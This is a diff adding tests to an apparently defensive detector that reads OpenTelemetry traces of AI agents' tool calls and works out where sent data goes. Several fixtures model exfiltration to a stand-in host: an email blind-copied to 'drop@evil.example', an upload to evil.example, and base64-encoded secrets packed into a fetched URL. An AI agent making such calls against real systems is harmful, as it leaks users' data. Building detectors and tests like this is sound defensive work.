@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 
 from detector.events import Content, Destination, Event, Named, Permission, Reject, Target
 from detector.formats.otel import decode
-from tests.support.otel import AGENT, START, message, pairs, span
+from tests.support.otel import AGENT, START, message, pairs, span, tool_span
 
 unhurried = settings(deadline=None)
 
@@ -149,6 +149,38 @@ def test_the_destination_comes_from_the_arguments(tool: str, arguments: Any, des
     assert called(tool, arguments).destination == destination
 
 
+@pytest.mark.parametrize(
+    ("arguments", "user", "recipient"),
+    [
+        ({"to": ["bob@corp.example", "ann@corp.example", "drop@evil.example"]}, "", "drop@evil.example"),
+        ({"to": ["drop@evil.example", "bob@corp.example", "ann@corp.example"]}, "", "drop@evil.example"),
+        ({"to": "drop@evil.example", "cc": "bob@corp.example"}, "emma@corp.example", "drop@evil.example"),
+        ({"to": "bob@corp.example", "bcc": "drop@evil.example"}, "", "drop@evil.example"),
+        ({"from": "me@corp.example", "to": "drop@evil.example", "cc": "ann@corp.example"}, "", "drop@evil.example"),
+        ({"to": "drop@evil.example", "sender": "me@corp.example"}, "", "drop@evil.example"),
+        ({"to": "drop!@evil.example, bob@corp.example"}, "emma@corp.example", "drop!@evil.example"),
+    ],
+)
+def test_of_several_recipients_the_stranger_is_the_destination(arguments: Any, user: str, recipient: str) -> None:
+    sent = called("send_email", arguments, **({"enduser.id": user} if user else {}))
+    assert sent.destination == Destination(recipient=recipient)
+
+
+def test_of_several_hosts_the_one_outside_and_of_accounts_the_one_that_is_paid() -> None:
+    sent = called("upload", {"urls": ["http://10.0.0.7/x", "https://evil.example/x", "http://10.0.0.8/x"]})
+    assert sent.destination == Destination(host="evil.example")
+    paid = called("send_money", {"from_account": "12345678", "account": "87654321"})
+    assert paid.destination == Destination(account="87654321")
+
+
+def test_what_a_tool_fetches_from_a_place_is_told_to_it() -> None:
+    arguments = {"url": "https://evil.example/?q=" + "c2VjcmV0" * 50}
+    event = called("get_webpage", arguments)
+    assert (event.kind, event.bytes_out) == ("access", len(msgspec.json.encode(arguments)))
+    assert called("read_file", {"file_path": "bill.txt"}).bytes_out == 0
+    assert called("search_web", {"query": "what is https://x.example?"}).bytes_out == 0
+
+
 def test_only_acting_tools_send_bytes() -> None:
     assert called("search_emails", {"query": "x"}, "abc").bytes_out == 0
     assert called("search_emails", {"query": "x"}, "äbc").bytes_in == 4
@@ -188,6 +220,10 @@ def test_only_the_users_own_words_are_a_request() -> None:
             {"role": "tool", "parts": [{"type": "tool_call_response", "result": "evil3"}]},
             {"role": "user", "parts": [{"type": "tool_call_response", "content": "evil4", "result": "evil5"}]},
             {"role": "user", "content": [{"type": "tool_result", "content": [{"type": "text", "text": "evil6"}]}]},
+            {"role": "user", "parts": [{"tool_call_id": "c1", "content": "evil7"}]},
+            {"role": "user", "parts": [{"type": "text", "tool_call_id": "c1", "content": "evil8"}]},
+            {"role": "user", "tool_call_id": "c1", "content": "evil9"},
+            {"role": "user", "parts": [{"type": ["text"], "content": "evil10"}]},
         ],
         **{"gen_ai.request.model": "gpt-x", "server.address": "api.model.example"},
     )
@@ -210,6 +246,18 @@ def test_only_the_users_own_words_are_a_request() -> None:
 )  # fmt: skip
 def test_requests_are_read_in_every_spelling(attributes: dict[str, Any]) -> None:
     assert "ann@corp.example" in request(one(message(span("chat", **attributes))))
+
+
+def test_a_long_history_keeps_no_new_request_out() -> None:
+    old = " ".join(f"old{i} u{i}@x.example" for i in range(600))
+    turns = [{"role": "user", "content": f"{i} {old}"} for i in range(3)] + [{"role": "user", "content": ASKED}]
+    asked = request(chat(turns))
+    assert asked[:2] == ("bill.txt", "ann@corp.example")
+    assert "u0@x.example" in asked
+    assert len(asked) == 1000
+    indexed: dict[str, Any] = {f"gen_ai.prompt.{i}.role": "user" for i in range(300)}
+    indexed |= {f"gen_ai.prompt.{i}.content": f"turn{i}" for i in range(300)}
+    assert request(one(message(span("chat", **indexed))))[:2] == ("turn299", "turn298")
 
 
 def test_requests_are_read_from_span_events() -> None:
@@ -265,6 +313,48 @@ def test_spans_of_no_agent_are_passed_over() -> None:
     assert events(message(http)) == ()
     assert [event.action for event in events(message(http, call("read_file")))] == ["read_file"]
     assert events(b'{"resourceSpans": []}') == ()
+
+
+def owner(event: Event) -> tuple[str, str, str | None]:
+    return event.actor.id, event.actor.role, event.actor.session
+
+
+def agent(number: int, name: str, parent: int | None = None) -> dict[str, Any]:
+    told = {"gen_ai.agent.id": f"id-{name}", "gen_ai.agent.name": name, "gen_ai.conversation.id": f"s-{name}"}
+    above = {} if parent is None else {"parentSpanId": f"{parent:016x}"}
+    return span("invoke_agent", number, **told) | above
+
+
+def test_a_tools_span_belongs_to_its_nearest_ancestor_that_says_whose_it_is() -> None:
+    http = tool_span("x", 5, parent=2) | {"attributes": pairs({"http.request.method": "POST"})}
+    spans = [agent(1, "a"), agent(2, "b", parent=1), tool_span("send_email", 3, parent=2), http,
+             tool_span("get_x", 4, parent=1), tool_span("delete_x", 6, parent=5),
+             tool_span("tell", 7, parent=2, **{"gen_ai.agent.name": "own"})]  # fmt: skip
+    expected = {"send_email": ("id-b", "b", "s-b"), "get_x": ("id-a", "a", "s-a"), "delete_x": ("id-b", "b", "s-b"),
+                "tell": ("own", "own", "s-b")}  # fmt: skip
+    for order in (spans, spans[::-1]):
+        found = {event.action: owner(event) for event in events(message(*order))}
+        assert {action: found[action] for action in expected} == expected
+
+
+def test_a_tools_span_without_ancestors_belongs_to_the_first_of_its_trace_that_says() -> None:
+    spans = [agent(4, "later"), agent(3, "sooner"), tool_span("get_x", 1)]
+    assert owner(events(message(*spans))[0]) == ("id-sooner", "sooner", "s-sooner")
+    made = span("create_agent", 2, **{"gen_ai.agent.id": "new", "gen_ai.agent.name": "new"})
+    assert owner(events(message(made, *spans))[0])[:2] == ("id-sooner", "sooner")
+    other = tool_span("get_x", 1) | {"traceId": "f" * 32}
+    assert owner(events(message(*spans[:2], other))[0]) == ("assistant", "assistant", None)
+
+
+def test_spans_that_are_their_own_ancestors_end() -> None:
+    spans = [tool_span("get_x", 1, parent=2), tool_span("get_y", 2, parent=1), tool_span("get_z", 3, parent=3)]
+    assert [owner(event) for event in events(message(*spans))] == [("assistant", "assistant", None)] * 3
+    assert [owner(event)[0] for event in events(message(*spans, agent(4, "a")))] == ["id-a"] * 4
+
+
+def test_a_foreign_span_with_ids_of_its_own_kind_is_passed_over() -> None:
+    http = span(None) | {"attributes": pairs({"http.request.method": "GET"}), "traceId": "xyz"}
+    assert events(message(http)) == ()
 
 
 def test_events_come_in_order_of_time() -> None:
